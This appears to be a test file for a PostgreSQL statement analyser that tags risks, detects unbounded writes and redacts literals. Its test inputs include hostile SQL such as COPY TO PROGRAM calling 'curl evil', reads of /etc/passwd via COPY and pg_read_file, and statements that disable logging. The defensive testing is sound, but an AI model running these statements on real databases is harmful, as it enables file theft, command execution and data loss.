import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { normalizeSync, parseSync } from 'libpg-query';
import { testedColumns, type UserCode } from '../../src/sql/lineage.js';
import { analysePostgres, loadSqlParser, postgresSessionAnalyser } from '../../src/sql/postgres.js';
import { mayHoldLiteral, redact, replaceLiteralTokens } from '../../src/sql/postgres/redact.js';
import type { StatementFacts } from '../../src/sql/facts.js';

before(() => loadSqlParser());

/** `schema.name:access`, sorted: compact enough to keep the table readable. */
function rels(f: StatementFacts): string[] {
  return f.relations.map((r) => `${r.schema ? `${r.schema}.` : ''}${r.name}:${r.access}`).sort();
}
function risks(f: StatementFacts): string[] {
  return [...new Set(f.functions.flatMap((x) => x.risks))].sort();
}

interface Case {
  sql: string;
  kind: StatementFacts['kind'];
  tag?: string;
  rels?: string[];
  risks?: string[];
  hasWhere?: boolean | null;
  opaque?: string;
  modifyingCte?: boolean;
  changesResolution?: boolean;
}

const cases: Case[] = [
  { sql: 'SELECT abalance FROM pgbench_accounts WHERE aid = 5', kind: 'select', rels: ['pgbench_accounts:read'] },
  { sql: 'select * from a join s.b on a.id = b.id left join (select 1 from c) x on true', kind: 'select', rels: ['a:read', 'c:read', 's.b:read'] },
  { sql: 'SeLeCt/* hi */*/**/FrOm "Mixed"."Case" , lower_t', kind: 'select', rels: ['Mixed.Case:read', 'lower_t:read'] },
  { sql: 'select * from U&"d\\0061t\\+000061"', kind: 'select', rels: ['data:read'] },
  { sql: `select 'drop table x', $$ DELETE FROM y $$ from t`, kind: 'select', rels: ['t:read'] },
  { sql: 'select * from t where id in (select id from u where exists (select 1 from v))', kind: 'select', rels: ['t:read', 'u:read', 'v:read'] },
  { sql: 'with t as (select * from t) select * from t', kind: 'select', rels: ['t:read'] },
  { sql: 'with x as (select 1) select * from x, public.x', kind: 'select', rels: ['public.x:read'] },
  { sql: 'with recursive r as (select 1 union all select 1 from r) select * from r', kind: 'select', rels: [] },
  { sql: 'with d as (delete from logs returning *) select * from d', kind: 'select', rels: ['logs:write'], modifyingCte: true, hasWhere: false },
  { sql: 'with d as (update t set a = 1 where id = 2 returning *) select * from d', kind: 'select', rels: ['t:write'], modifyingCte: true, hasWhere: true },
  { sql: 'insert into t (a) select b from u returning *', kind: 'insert', rels: ['t:write', 'u:read'] },
  { sql: 'update t set a = u.b from u where t.id = u.id', kind: 'update', rels: ['t:write', 'u:read'], hasWhere: true },
  { sql: 'delete from t using u where t.id = u.id', kind: 'delete', rels: ['t:write', 'u:read'], hasWhere: true },
  { sql: 'merge into t using s on t.id = s.id when matched then delete', kind: 'merge', rels: ['s:read', 't:write'], hasWhere: true },
  { sql: 'merge into t using s on true when matched then delete', kind: 'merge', hasWhere: false },
  // A join of the table with itself matches every row: only a condition on the target alone bounds it.
  { sql: 'merge into t using t s on t.id = s.id when matched then delete', kind: 'merge', hasWhere: false },
  { sql: 'merge into t o using (select * from t) s on o.id = s.id when matched then update set x = 1', kind: 'merge', hasWhere: false },
  { sql: 'merge into t o using t s on o.id = s.id and o.id = 5 when matched then delete', kind: 'merge', hasWhere: true },
  { sql: 'merge into t o using t s on o.id = s.id when matched and o.id < 3 then delete', kind: 'merge', hasWhere: true },
  { sql: "merge into t using (values (1, 'x')) v(id, n) on t.id = v.id when matched then update set n = v.n", kind: 'merge', hasWhere: true },
  { sql: 'merge into t using t s on t.id = s.id when not matched then insert values (s.id)', kind: 'merge', hasWhere: true },
  { sql: 'delete from t o using t s where o.id = s.id', kind: 'delete', hasWhere: false },
  { sql: 'update t o set x = 1 from t s where o.id = s.id', kind: 'update', hasWhere: false },
  { sql: 'delete from t using s where t.id = s.id', kind: 'delete', hasWhere: true },
  // A condition on another FROM item (or a MERGE source) alone is the same for every target row.
  { sql: 'merge into t o using (select 1 as x) s on s.x = 1 when matched then delete', kind: 'merge', hasWhere: false },
  { sql: 'merge into t o using (select 1) s on true when matched then delete', kind: 'merge', hasWhere: false },
  { sql: 'merge into t o using (values (1)) s(x) on x = 1 when matched then update set y = 2', kind: 'merge', hasWhere: false },
  { sql: "update t set a = 'x' from (select 1 as x) s where s.x = 1", kind: 'update', hasWhere: false },
  { sql: 'delete from t using (values (1)) v(x) where v.x = 1', kind: 'delete', hasWhere: false },
  { sql: 'delete from t using (values (1)) v(x) where x = 1', kind: 'delete', hasWhere: false },
  { sql: 'delete from t using u where u.id = 1', kind: 'delete', hasWhere: false },
  { sql: 'with c(k) as (select 1) delete from t using c where k = 1', kind: 'delete', hasWhere: false },
  { sql: 'delete from t using generate_series(1, 3) g where g = 2', kind: 'delete', hasWhere: false },
  { sql: 'delete from t using (values (1)) v(x) where t.id = v.x', kind: 'delete', hasWhere: true },
  { sql: 'update t set a = v.b from (values (1, 2)) v(k, b) where id = k', kind: 'update', hasWhere: true },
  { sql: 'merge into t o using (select 1 as id) s on o.id = s.id when matched then delete', kind: 'merge', hasWhere: true },
  // Tautologies over the row: the same expression on both sides, x IN (x), excluded middle.
  { sql: 'delete from t where id in (id)', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where id + 0 = id', kind: 'delete', hasWhere: false },
  { sql: 'update t set x = 1 where x is null or x is not null', kind: 'update', hasWhere: false },
  { sql: "update t set x = 1 where x = 'a' or not x = 'a'", kind: 'update', hasWhere: false },
  { sql: 'delete from t where id in (id, 5)', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where id in (4, 5)', kind: 'delete', hasWhere: true },
  { sql: 'delete from t where x is null or y is not null', kind: 'delete', hasWhere: true },
  // The same tautologies in other spellings, and their negations.
  { sql: 'delete from t where id between id and id', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where id between symmetric id and id', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where id = any (array[id])', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where not (id <> id)', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where not (id is distinct from id)', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where id between id and 5', kind: 'delete', hasWhere: true },
  { sql: 'delete from t where id = any (array[4, 5])', kind: 'delete', hasWhere: true },
  // System columns are never NULL.
  { sql: 'delete from t where ctid is not null', kind: 'delete', hasWhere: false },
  { sql: 'update t set x = 1 where t.xmin is not null', kind: 'update', hasWhere: false },
  // A disjunct that names no row (a parameter, a constant, a clock) makes the OR hold for every row.
  { sql: 'delete from t where id = $1 or $2', kind: 'delete', hasWhere: false },
  { sql: "delete from t where id = 1 or now() > '2000-01-01'", kind: 'delete', hasWhere: false },
  { sql: 'delete from t where id = $1 or x = $2', kind: 'delete', hasWhere: true },
  { sql: 'delete from t where id = $1 and $2', kind: 'delete', hasWhere: true },
  // A subquery over the written table itself is a semi-join of the table with itself: every row,
  // unless the subquery picks out rows of its own (a filter, a join to another table, LIMIT).
  { sql: 'delete from orders where id in (select id from orders)', kind: 'delete', hasWhere: false },
  { sql: 'delete from orders where id = any (array(select id from orders))', kind: 'delete', hasWhere: false },
  { sql: 'with x as (select id from orders) delete from orders where id in (select id from x)', kind: 'delete', hasWhere: false },
  { sql: 'with x as (select id from orders), y as (select id from x) delete from orders where id in (select id from y)', kind: 'delete', hasWhere: false },
  { sql: 'delete from orders where id in (with c as (select id from orders) select id from c)', kind: 'delete', hasWhere: false },
  { sql: 'update orders set x = 1 where id in (with c as (select id from orders), d as (select id from c) select id from d)', kind: 'update', hasWhere: false },
  { sql: "delete from orders where id in (with c as (select id from orders where status = 'x') select id from c)", kind: 'delete', hasWhere: true },
  { sql: 'delete from orders o where exists (select 1 from orders p where p.id = o.id)', kind: 'delete', hasWhere: false },
  { sql: 'update orders set x = 1 where id in (select id from (select * from orders) s)', kind: 'update', hasWhere: false },
  { sql: "delete from orders where id in (select id from orders where status = 'x')", kind: 'delete', hasWhere: true },
  { sql: "delete from orders o where exists (select 1 from orders p where p.id = o.parent_id and p.status = 'x')", kind: 'delete', hasWhere: true },
  { sql: 'delete from orders where id in (select id from orders order by id limit 10)', kind: 'delete', hasWhere: true },
  { sql: 'delete from orders where user_id in (select u.id from users u)', kind: 'delete', hasWhere: true },
  { sql: 'delete from orders where id in (select o.id from orders o join users u on u.id = o.user_id)', kind: 'delete', hasWhere: true },
  { sql: "delete from orders where status = 'x' and id in (select id from orders)", kind: 'delete', hasWhere: true },
  { sql: 'delete from orders o where id in (select id from orders o where o.id > 5)', kind: 'delete', hasWhere: true },
  { sql: 'delete from orders where amount > (select avg(amount) from orders)', kind: 'delete', hasWhere: true },
  // Joined through a CTE that reads the table: still the table with itself, and as for
  // USING (SELECT … FROM orders WHERE …), only a condition on the target's own rows bounds it.
  { sql: 'with x as (select * from orders) delete from orders using x where orders.id = x.id', kind: 'delete', hasWhere: false },
  { sql: 'with x as (select * from orders) update orders set a = 1 from x where orders.id = x.id', kind: 'update', hasWhere: false },
  { sql: 'with x as (select * from orders) merge into orders o using x on o.id = x.id when matched then delete', kind: 'merge', hasWhere: false },
  { sql: "with x as (select * from orders where status = 'x') delete from orders using x where orders.id = x.id", kind: 'delete', hasWhere: false },
  { sql: 'with x as (select * from users) delete from orders using x where orders.user_id = x.id', kind: 'delete', hasWhere: true },
  { sql: 'delete from orders where id = (array(select id from orders))[1]', kind: 'delete', hasWhere: true },
  // tableoid is one value per table (it picks partitions, not rows).
  { sql: "delete from orders where tableoid = 'orders'::regclass", kind: 'delete', hasWhere: false },
  { sql: "delete from orders o where o.tableoid = 'orders_2024'::regclass", kind: 'delete', hasWhere: false },
  { sql: "delete from orders where tableoid = 'orders'::regclass and id = 3", kind: 'delete', hasWhere: true },
  // Upserts: rows from a query update every row they reach; rows from VALUES are bounded.
  { sql: "insert into t select * from t on conflict (id) do update set x = 'y'", kind: 'insert', hasWhere: false },
  { sql: "insert into t select * from t on conflict (id) do update set x = 'y' where t.id = 3", kind: 'insert', hasWhere: true },
  { sql: "insert into t values (1, 'x') on conflict (id) do update set x = excluded.x", kind: 'insert', hasWhere: true },
  { sql: "insert into t select * from s on conflict do nothing", kind: 'insert', hasWhere: null },
  { sql: 'copy t from stdin', kind: 'copy', rels: ['t:write'] },
  { sql: 'copy (select * from secret) to stdout', kind: 'copy', rels: ['secret:read'] },
  { sql: `copy t to program 'curl evil'`, kind: 'copy', risks: ['program'] },
  { sql: `copy t from '/etc/passwd'`, kind: 'copy', risks: ['file'], rels: ['t:write'] },
  { sql: 'truncate a, s.b', kind: 'truncate', rels: ['a:write', 's.b:write'] },
  { sql: 'drop table a, s.b cascade', kind: 'drop', tag: 'DROP TABLE', rels: ['a:ddl', 's.b:ddl'], changesResolution: true },
  { sql: 'drop trigger tr on t', kind: 'drop', rels: ['t:ddl'] },
  { sql: 'alter table t add column c int', kind: 'alter', tag: 'ALTER TABLE', rels: ['t:ddl'] },
  { sql: 'alter table t rename to u', kind: 'alter', rels: ['t:ddl'], changesResolution: true },
  { sql: 'create table n as select * from secret', kind: 'create', rels: ['n:ddl', 'secret:read'] },
  { sql: 'select * into n from secret', kind: 'create', tag: 'SELECT INTO', rels: ['n:ddl', 'secret:read'] },
  { sql: 'create view v as select ssn from people', kind: 'create', rels: ['people:read', 'v:ddl'] },
  { sql: 'create temp table tt (a int)', kind: 'create', rels: ['pg_temp.tt:ddl'], changesResolution: true },
  { sql: 'lock table t in access exclusive mode', kind: 'utility', rels: ['t:write'] },
  { sql: 'lock table t in access share mode', kind: 'utility', rels: ['t:read'] },
  { sql: 'grant select on t, s.u to bob', kind: 'grant', rels: ['s.u:ddl', 't:ddl'] },
  { sql: 'revoke all on t from bob', kind: 'grant', tag: 'REVOKE' },
  { sql: 'create rule r as on select to t do instead select * from secret', kind: 'create', rels: ['secret:read', 't:ddl'], changesResolution: true },
  { sql: 'create trigger tr before insert on t for each row execute function f()', kind: 'create', rels: ['t:ddl'], changesResolution: true },
  { sql: 'update t set a = 1', kind: 'update', hasWhere: false },
  { sql: 'update t set a = 1 where true', kind: 'update', hasWhere: false },
  { sql: 'update t set a = 1 where 1=1', kind: 'update', hasWhere: false },
  { sql: `delete from t where 'a'='a'`, kind: 'delete', hasWhere: false },
  { sql: 'delete from t where not false', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where id = 5 or true', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where true and true', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where 2 > 1', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where true is true', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where coalesce(true)', kind: 'delete', hasWhere: false },
  { sql: `delete from t where 't'::boolean`, kind: 'delete', hasWhere: false },
  { sql: 'delete from t where 1 in (1, 2)', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where exists (select 1)', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where 1 = 2', kind: 'delete', hasWhere: true },
  // A column compared with itself restricts nothing but NULLs: as good as no WHERE.
  { sql: 'delete from t where id = id', kind: 'delete', hasWhere: false },
  { sql: 'delete from t where id = other_id', kind: 'delete', hasWhere: true },
  { sql: "update t set a = 1 where b like '%'", kind: 'update', hasWhere: false },
  { sql: 'delete from t where id = $1 and true', kind: 'delete', hasWhere: true },
  // Round 3: patterns that match every value, in every spelling; their negation matches none.
  { sql: "delete from t where b like '%%%'", kind: 'delete', hasWhere: false },
  { sql: "delete from t where b ~~ '%'", kind: 'delete', hasWhere: false },
  { sql: "delete from t where not (b not like '%')", kind: 'delete', hasWhere: false },
  { sql: "delete from t where b like '%' escape '#'", kind: 'delete', hasWhere: false },
  { sql: "delete from t where b like '%%' escape '%'", kind: 'delete', hasWhere: true },
  { sql: "delete from t where b similar to '%'", kind: 'delete', hasWhere: false },
  { sql: "delete from t where b ~ ''", kind: 'delete', hasWhere: false },
  { sql: "delete from t where b ~* '.*'", kind: 'delete', hasWhere: false },
  { sql: "delete from t where b ~ '^$'", kind: 'delete', hasWhere: true },
  { sql: "delete from t where b ~ 'a.*'", kind: 'delete', hasWhere: true },
  { sql: "delete from t where b like 'a%'", kind: 'delete', hasWhere: true },
  // The same expression on both sides, calls included.
  { sql: 'delete from t where lower(b) = lower(b)', kind: 'delete', hasWhere: false },
  { sql: 'update t set a = 1 where length(b) >= length(b)', kind: 'update', hasWhere: false },
  { sql: 'delete from t where lower(b) = lower(c)', kind: 'delete', hasWhere: true },
  // A write inside COPY runs now: its WHERE is judged like any other.
  { sql: 'copy (delete from t returning *) to stdout', kind: 'copy', rels: ['t:write'], hasWhere: false },
  { sql: "copy (update t set a = 1 where id = 2 returning 1) to stdout", kind: 'copy', hasWhere: true },
  { sql: "copy (insert into t select * from t on conflict (id) do update set a = 1 returning 1) to stdout", kind: 'copy', hasWhere: false },
  // Rows from a select list that calls a (possibly set-returning) function are not listed rows.
  { sql: 'insert into t (id) select generate_series(1, 100) on conflict (id) do update set a = 1', kind: 'insert', hasWhere: false },
  { sql: 'insert into t (id) select 1 on conflict (id) do update set a = 1', kind: 'insert', hasWhere: true },
  // A MERGE source is bounded by its own rows (a range, as `WHERE id BETWEEN 1 AND 100` is), unless
  // it reads the target: then it is the table joined with itself.
  { sql: 'merge into t o using (select generate_series(1, 100) as id) s on o.id = s.id when matched then delete', kind: 'merge', hasWhere: true },
  { sql: 'merge into t o using (select unnest((select array_agg(id) from t)) as id) s on o.id = s.id when matched then delete', kind: 'merge', hasWhere: false },
  { sql: 'merge into t o using (select 1 as id) s on o.id = s.id when matched then delete', kind: 'merge', hasWhere: true },
  // Function bodies are judged when they are called, not when they are written.
  { sql: `create function f() returns void language sql as 'delete from t'`, kind: 'create', hasWhere: null },
  { sql: `select pg_read_file('/etc/passwd')`, kind: 'select', risks: ['file'] },
  { sql: `select PG_CATALOG.pg_ls_dir('.')`, kind: 'select', risks: ['file'] },
  { sql: `select * from ext.dblink('host=x', 'select 1') as t(a int)`, kind: 'select', risks: ['remote'] },
  { sql: `select query_to_xml('select * from secret', true, true, '')`, kind: 'select', risks: ['dynamic-sql'] },
  { sql: 'select pg_terminate_backend(123)', kind: 'select', risks: ['admin'] },
  { sql: `select set_config('role', 'admin', false)`, kind: 'select', risks: ['identity'], changesResolution: true },
  // An ordinary setting is what SET does in any session; one that switches off checks is admin.
  { sql: `select set_config('work_mem', '1GB', true)`, kind: 'select', risks: [] },
  { sql: `select set_config('session_replication_role', 'replica', false)`, kind: 'select', risks: ['admin'] },
  { sql: `select set_config('log_statement', 'none', false)`, kind: 'select', risks: ['admin'] },
  { sql: `select set_config(x, 'y', false) from t`, kind: 'select', risks: ['admin', 'identity'] },
  { sql: `select nextval('s'), pg_advisory_lock(1)`, kind: 'select', risks: ['side-effect'] },
  { sql: `select 1 where exists (select lo_import('/x'))`, kind: 'select', risks: ['file'] },
  { sql: 'explain select * from t', kind: 'utility', tag: 'EXPLAIN', rels: ['t:read'] },
  { sql: 'explain delete from t', kind: 'utility', rels: ['t:read'] },
  { sql: 'explain analyze delete from t', kind: 'delete', tag: 'EXPLAIN', rels: ['t:write'], hasWhere: false },
  { sql: 'explain (analyze, format json) update t set a = 1 where id = 1', kind: 'update', rels: ['t:write'], hasWhere: true },
  { sql: 'explain (analyze off) delete from t', kind: 'utility', rels: ['t:read'] },
  { sql: 'prepare p (int) as delete from t where id = $1', kind: 'delete', tag: 'PREPARE', rels: ['t:write'], hasWhere: true },
  { sql: 'execute p(1)', kind: 'utility', tag: 'EXECUTE' },
  { sql: `do $$ begin execute 'drop table x'; delete from y; end $$`, kind: 'do', opaque: 'do-block', rels: ['y:write'], risks: ['dynamic-sql'] },
  { sql: `create function f() returns void language plpgsql as $$ begin execute 'select 1'; end $$`, kind: 'create', opaque: 'dynamic-sql', risks: ['dynamic-sql'] },
  { sql: `create function f() returns bigint language sql as 'select count(*) from secret'`, kind: 'create', rels: ['secret:read'] },
  // A body with RETURN <value> or OUT parameters is read from the statement itself.
  { sql: `create function f() returns int language plpgsql as $$ begin execute 'select 1'; return 1; end $$`, kind: 'create', opaque: 'dynamic-sql', risks: ['dynamic-sql'] },
  { sql: `create function f(out o int) language plpgsql as $$ begin delete from secret where id = 1; o := 1; end $$`, kind: 'create', rels: ['secret:write'] },
  { sql: 'set search_path = evil, public', kind: 'set', changesResolution: true },
  { sql: 'set role admin', kind: 'set' },
  { sql: 'alter system set log_statement = none', kind: 'admin', tag: 'ALTER SYSTEM' },
  { sql: 'create extension dblink', kind: 'admin' },
  { sql: 'create role x login', kind: 'role' },
  { sql: 'begin', kind: 'transaction', tag: 'BEGIN' },
  { sql: 'vacuum full t', kind: 'admin', rels: ['t:write'] },
  { sql: 'call p(1)', kind: 'call' },
  { sql: 'show search_path', kind: 'utility' },
  { sql: 'declare c cursor for select ssn from people', kind: 'select', rels: ['people:read'] },
  { sql: 'selec * from t', kind: 'unknown', opaque: 'parse-error' },
  { sql: `select 'unterminated`, kind: 'unknown', opaque: 'parse-error' },
];

test('statement facts: kinds, relations, risks, WHERE, opacity', () => {
  for (const c of cases) {
    const { statements } = analysePostgres(c.sql);
    assert.equal(statements.length, 1, c.sql);
    const f = statements[0] as StatementFacts;
    assert.equal(f.kind, c.kind, `${c.sql}: kind`);
    if (c.tag !== undefined) assert.equal(f.tag, c.tag, `${c.sql}: tag`);
    if (c.rels !== undefined) assert.deepEqual(rels(f), [...c.rels].sort(), `${c.sql}: relations`);
    if (c.risks !== undefined) assert.deepEqual(risks(f), c.risks, `${c.sql}: risks`);
    if (c.hasWhere !== undefined) assert.equal(f.hasWhere, c.hasWhere, `${c.sql}: hasWhere`);
    assert.equal(f.opaque?.reason, c.opaque, `${c.sql}: opaque`);
    if (c.modifyingCte !== undefined) assert.equal(f.modifyingCte, c.modifyingCte, `${c.sql}: modifyingCte`);
    if (c.changesResolution !== undefined) assert.equal(f.changesResolution ?? false, c.changesResolution, `${c.sql}: changesResolution`);
  }
});

test('multi-statement messages: one facts per statement, sliced text', () => {
  const sql = `SELECT 'é' FROM a; /* x */ DELETE FROM b WHERE 1=1;update c set x=1 where id=2`;
  const { statements } = analysePostgres(sql);
  assert.deepEqual(
    statements.map((s) => [s.kind, s.text, s.multiStatement, s.hasWhere]),
    [
      ['select', `SELECT 'é' FROM a`, true, null],
      ['delete', 'DELETE FROM b WHERE 1=1', true, false],
      ['update', 'update c set x=1 where id=2', true, true],
    ],
  );
});

test('PREPARE hoists the inner statement; EXECUTE names it', () => {
  const [p] = analysePostgres('prepare q as select ssn from people').statements;
  assert.equal(p?.prepare?.name, 'q');
  assert.equal(p?.prepare?.inner.kind, 'select');
  assert.equal(p?.kind, 'select');
  const [e] = analysePostgres('EXECUTE q').statements;
  assert.deepEqual(e?.execute, { name: 'q' });
});

test('settings: SET, SET LOCAL, RESET, SET ROLE, SESSION AUTHORIZATION, set_config', () => {
  const table: [string, StatementFacts['settings']][] = [
    [`set search_path to a, "B", '$user'`, [{ name: 'search_path', value: 'a, "B", $user', local: false }]],
    ['set local statement_timeout = 5', [{ name: 'statement_timeout', value: '5', local: true }]],
    ['reset search_path', [{ name: 'search_path', value: null, local: false }]],
    ['reset all', [{ name: 'all', value: null, local: false }]],
    ['set role admin', [{ name: 'role', value: 'admin', local: false }]],
    ['set session authorization bob', [{ name: 'session_authorization', value: 'bob', local: false }]],
    [`select set_config('search_path', 'x', true)`, [{ name: 'search_path', value: 'x', local: true }]],
  ];
  for (const [sql, want] of table) assert.deepEqual(analysePostgres(sql).statements[0]?.settings, want, sql);
});

test('redaction leaves no literal, in any statement shape', () => {
  const table: [string, string[]][] = [
    [`select * from t where ssn = '123-45-6789' and n = 42`, ['123-45-6789', '42']],
    [`prepare p as select 'secret-a'`, ['secret-a']],
    [`copy t from '/tmp/secret-path'`, ['secret-path']],
    [`set application_name = 'secret-b'`, ['secret-b']],
    [`select $tag$secret-c$tag$; select E'secret-d', B'1011', X'ff', 3.14159`, ['secret-c', 'secret-d', '1011', "X'ff'", '3.14159']],
    [`select 1 /* secret-e */ -- secret-f`, ['secret-e', 'secret-f']],
    [`do $$ begin perform 'secret-g'; end $$`, ['secret-g']],
    [`selec 'secret-h'`, ['secret-h']],
  ];
  for (const [sql, secrets] of table) {
    for (const s of analysePostgres(sql).statements) {
      for (const secret of secrets) assert.ok(!s.redacted.includes(secret), `${sql}: ${secret} survived in ${s.redacted}`);
      assert.notEqual(s.fingerprint, '', sql);
    }
  }
});

test('redaction skips the lexer pass only where it would change nothing', () => {
  const texts: string[] = [];
  for (const file of ['postgres-guardrails.yaml', 'postgres-masking.yaml']) {
    const walk = (v: unknown): void => {
      if (Array.isArray(v)) v.forEach(walk);
      else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) k === 'sql' && typeof x === 'string' ? texts.push(x) : walk(x);
    };
    walk(parseYaml(readFileSync(resolve(process.cwd(), 'test/corpus', file), 'utf8')));
  }
  assert.ok(texts.length > 250);
  // Hand-made edges of each trigger, plus random texts over an alphabet rich in them.
  texts.push('select a1, b_2, c$3 from t9 where x = $1', 'fetch 10 from c', 'select .5', 'select x::varchar(10) from t', 'select 1e5', 'select U&"d!0061t" from t', 'select $q$x$q$', 'select a -- c', 'select a /* c */', 'select é from t', 'select 0x1f');
  const alphabet = ["a", "b", "1", "9", " ", "'", '"', '$', '-', '/', '*', '.', '_', '(', ')', ',', 'x', 'e', 'é', '\\', ';', 'select ', ' from t', ' where ', '='];
  let seed = 7;
  const rnd = (n: number): number => ((seed = (seed * 1103515245 + 12345) % 2147483648) % n);
  for (let i = 0; i < 3000; i++) texts.push(Array.from({ length: 1 + rnd(24) }, () => alphabet[rnd(alphabet.length)]).join(''));
  let skipped = 0;
  for (const text of texts) {
    let normalized: string;
    try {
      normalized = normalizeSync(text);
    } catch {
      normalized = text;
    }
    assert.equal(redact(text), replaceLiteralTokens(normalized), text);
    if (!mayHoldLiteral(normalized)) skipped++;
  }
  assert.ok(skipped > 100, `the lexer pass was skipped for some texts (${skipped})`);
});

test('a write joining a base table whose condition names target rows only by bare names records them, for the catalog to judge', () => {
  const bare = (sql: string) => analysePostgres(sql).statements[0]?.whereBareNames;
  assert.deepEqual(bare("DELETE FROM orders USING users WHERE email = 'x'"), ['email']);
  assert.deepEqual(bare("UPDATE orders SET status = 'x' FROM users WHERE user_id = users.id AND plan = 'pro'"), ['user_id', 'plan']);
  assert.deepEqual(bare("MERGE INTO orders o USING users u ON email = 'x' WHEN MATCHED THEN DELETE"), ['email']);
  // A column qualified by the target (or a subquery correlated with it) names its rows; a joined CTE or derived table is judged by the analyser.
  assert.equal(bare("DELETE FROM orders o USING users u WHERE o.user_id = u.id AND email = 'x'"), undefined);
  assert.equal(bare('DELETE FROM orders o USING users u WHERE EXISTS (SELECT 1 FROM x WHERE x.id = o.id)'), undefined);
  assert.equal(bare('WITH c AS (SELECT 1 AS k) DELETE FROM orders USING c WHERE id = k'), undefined);
  assert.equal(bare("DELETE FROM orders WHERE status = 'x'"), undefined);
});

test('a WHERE that only tests one name for NULL records the name, for the catalog to judge', () => {
  const truth = (sql: string): string | undefined => analysePostgres(sql).statements[0]?.whereTruthOf;
  assert.equal(truth('delete from orders where id is not null'), 'id');
  assert.equal(truth('delete from orders where id is distinct from null'), 'id');
  assert.equal(truth('delete from orders o where null is distinct from o.id'), 'id');
  assert.equal(truth('delete from orders o where o is not null'), 'o');
  assert.equal(truth('delete from orders where orders.* is not null'), 'orders');
  assert.equal(truth('delete from orders o where row(o.*) is not null'), 'o');
  assert.equal(truth('delete from orders where id is null'), undefined);
  assert.equal(truth('delete from orders where id is distinct from 3'), undefined);
  assert.equal(truth('delete from orders where id is not null and total > 3'), undefined);
  // Other spellings of the same test.
  for (const w of ['id::int is not null', 'not id is null', 'id is not null and true', 'row(id) is not null', '(id is not null) is true', 'id + 0 is not null', 'id is not null or false', 'id::text is not null']) {
    assert.equal(truth(`delete from orders where ${w}`), 'id', w);
  }
  assert.equal(truth('delete from orders where row(id, total) is not null'), undefined);
  assert.equal(truth('delete from orders where id is not null or total > 3'), undefined);
});

test("COPY … TO's ENCODING is recorded (its output is read in that encoding); COPY FROM's is not", () => {
  const copy = (sql: string) => analysePostgres(sql).statements[0]?.copy;
  assert.equal(copy("COPY users TO STDOUT WITH (ENCODING 'SJIS')")?.encoding, 'SJIS');
  assert.equal(copy("COPY (SELECT 1) TO STDOUT WITH (FORMAT csv, ENCODING 'big5')")?.encoding, 'big5');
  assert.equal(copy("COPY users FROM STDIN WITH (ENCODING 'SJIS')")?.encoding, undefined);
  assert.equal(copy('COPY users TO STDOUT')?.encoding, undefined);
});

test('fingerprints ignore literals and differ by shape', () => {
  const fp = (sql: string): string | undefined => analysePostgres(sql).statements[0]?.fingerprint;
  assert.equal(fp('select * from t where id = 1'), fp('SELECT * FROM t WHERE id = 999'));
  assert.notEqual(fp('select * from t where id = 1'), fp('select * from u where id = 1'));
});

test('predicate columns come from WHERE, JOIN ON and HAVING', () => {
  const [f] = analysePostgres('select count(*) from people p join orders o on o.pid = p.id where p.ssn = $1 group by o.x having max(o.total) > 5').statements;
  const cols = (f?.predicateColumns ?? []).map((c) => `${c.table}.${c.column}`).sort();
  assert.deepEqual(cols, ['orders.pid', 'orders.total', 'people.id', 'people.ssn']);
});

test('ALTER TABLE actions: what it does to rows already there', () => {
  const actions = (sql: string) => analysePostgres(sql).statements[0].actions;
  assert.deepEqual(actions('ALTER TABLE t DROP COLUMN x'), ['ALTER TABLE DROP COLUMN']);
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE int USING NULL'), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.deepEqual(actions("ALTER TABLE t ALTER COLUMN c TYPE text USING 'x'"), ['ALTER TABLE OVERWRITE COLUMN']);
  // Without USING (or with USING c, or c cast to the new type) the assignment cast converts, and
  // many lose data ("char" keeps one byte, numeric → int rounds): overwriting until the broker
  // proves the conversion a widening from the column's current type (see the retype test below).
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE int USING c::int'), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE int USING CAST(c AS integer)'), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE text USING c'), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE "char"'), ['ALTER TABLE OVERWRITE COLUMN']);
  // USING that reads the column can still overwrite it, or truncate it with an explicit cast.
  assert.deepEqual(actions("ALTER TABLE t ALTER COLUMN c TYPE text USING 'x' || left(c, 0)"), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE varchar(1) USING c::varchar(1)'), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE boolean USING c > 0'), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE int USING other'), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.deepEqual(actions('ALTER TABLE t ALTER COLUMN c TYPE bigint'), ['ALTER TABLE OVERWRITE COLUMN']);
  assert.equal(actions('ALTER TABLE t ADD COLUMN y int'), undefined);
  // Switching off what guards the rows.
  assert.deepEqual(actions('ALTER TABLE t DISABLE TRIGGER ALL'), ['ALTER TABLE DISABLE TRIGGER']);
  assert.deepEqual(actions('ALTER TABLE t ENABLE REPLICA TRIGGER g'), ['ALTER TABLE DISABLE TRIGGER']);
  assert.deepEqual(actions('ALTER TABLE t NO FORCE ROW LEVEL SECURITY'), ['ALTER TABLE DISABLE ROW LEVEL SECURITY']);
  assert.equal(actions('ALTER TABLE t ENABLE TRIGGER ALL'), undefined);
});

